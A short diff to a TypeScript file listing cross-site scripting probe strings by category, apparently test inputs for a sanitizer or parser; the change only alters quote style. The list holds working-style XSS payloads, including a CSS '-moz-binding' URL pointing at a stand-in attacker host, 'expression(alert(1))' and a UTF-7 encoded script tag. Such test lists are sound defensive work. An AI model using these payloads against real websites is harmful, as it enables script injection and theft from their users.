@@ -29,11 +29,11 @@ const ATTACKS: Record<string, readonly string[]> = {
   CSS: [
     "*{color:red}",
     '@font-face {font-family: y; src: url("font.svg#x")}',
-    "body {font: 100px \"y\";}",
+    'body {font: 100px "y";}',
     "-moz-binding:url(http://evil.example/xss.xml#xss)",
     "width:expression(alert(1))",
   ],
-  "markup switches": ["<!-- up to FF 13 -->", "<![CDATA[", 'xmlns:svg="http://www.w3.org/2000/svg">', ";!--\"<xss>=&{()}"],
+  "markup switches": ["<!-- up to FF 13 -->", "<![CDATA[", 'xmlns:svg="http://www.w3.org/2000/svg">', ';!--"<xss>=&{()}'],
   "event handler inside an open tag": ["<x </onxxx=1"],
   "UTF-7 markup": ["+ADw-script+AD4-alert(1)+ADw-/script+AD4-"],
   "markup in an XML document's attribute": ['<?xml version="1.0"?><root><a probe="<BASE dsfds HREF / ="></a></root>'],
